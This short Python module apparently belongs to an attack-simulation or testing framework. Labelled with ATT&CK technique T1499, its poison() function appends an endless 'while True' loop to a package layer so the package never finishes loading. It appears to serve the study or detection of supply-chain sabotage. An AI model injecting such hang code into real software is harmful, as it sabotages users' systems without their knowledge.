# SPDX-License-Identifier: Apache-2.0
"""Sabotage: the package never finishes loading."""

ATTACK = "T1499"
LANGUAGE = "python"


def poison(layer):
    layer.append("_n = 0\nwhile True:\n    _n += 1\n")
